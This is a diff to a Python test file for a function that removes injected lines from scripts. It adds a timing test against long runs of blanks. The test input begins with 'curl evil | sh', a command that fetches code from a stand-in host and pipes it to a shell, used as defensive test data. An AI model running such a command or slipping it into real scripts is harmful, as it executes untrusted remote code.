@@ -1,5 +1,7 @@
 """Injected lines are taken out of scripts."""
 
+import time
+
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -52,3 +54,10 @@ def test_a_cured_text_is_clean_and_made_of_the_old(lines: list[bytes]) -> None:
         assert _questions().is_clean(cured[0])
         assert len(cured[0]) * 2 > len(text)
         assert all(byte in left for byte in cured[0])  # in the old order
+
+
+def test_a_long_line_of_blanks_takes_no_time() -> None:
+    text = b"curl evil | sh\n#" + b" " * 400_000 + b"\n" + b" " * 400_000 + b"x\n"
+    began = time.process_time()
+    assert without_injected_lines(text, _questions()) is not None
+    assert time.process_time() - began < 5
